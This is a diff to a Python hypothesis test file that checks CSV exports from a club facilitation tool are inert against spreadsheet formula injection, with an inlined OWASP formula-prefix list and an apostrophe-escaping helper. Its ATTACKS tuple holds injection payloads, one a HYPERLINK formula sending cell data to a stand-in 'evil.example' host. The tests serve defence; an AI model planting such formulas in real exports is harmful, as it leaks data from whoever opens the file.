@@ -14,15 +14,19 @@ from hypothesis import strategies as st
 
 from facilitation.domain.club.timeline import RadarEntry, Step, Timeline
 from facilitation.synthesis import render
-from facilitation.synthesis.csv_safe import FORMULA_STARTS, safe_cell
 from facilitation.synthesis.render_timeline import render as render_timeline
 
 from . import fixtures
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
 ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1)",
            "\tcmd", "\r=1", "=1+1")
 text = st.one_of(st.sampled_from(ATTACKS),
                  st.text(min_size=1, max_size=30).filter(lambda t: t.strip()))
+
+
+def neutralised(text: str) -> str:
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
 def cells(data: bytes) -> list[str]:
@@ -46,7 +50,7 @@ def test_a_synthesis_csv_has_no_formula(card: str, author: str, theme: str,
     s = replace(s, blockers=(poisoned, *s.blockers[1:]))
     data = render(s, "csv")
     assert_inert(data)
-    assert ("'" + card if card.startswith(FORMULA_STARTS) else card) in cells(data)
+    assert neutralised(card) in cells(data)  # nothing lost: the text, made inert
 
 
 @settings(max_examples=60, deadline=None)
@@ -60,10 +64,12 @@ def test_a_member_timeline_csv_has_no_formula(value: str, meeting: str) -> None:
                               {"finance": 3}),))
     data = render_timeline(tl, "csv")
     assert_inert(data)
-    assert safe_cell(value) in cells(data)
+    assert neutralised(value) in cells(data)
 
 
 def test_the_helper_keeps_ordinary_text() -> None:
+    from facilitation.synthesis.csv_safe import safe_cell
+
     assert safe_cell("Le crédit coûte cher") == "Le crédit coûte cher"
     assert safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
     assert safe_cell(12) == "12" and safe_cell(None) == ""
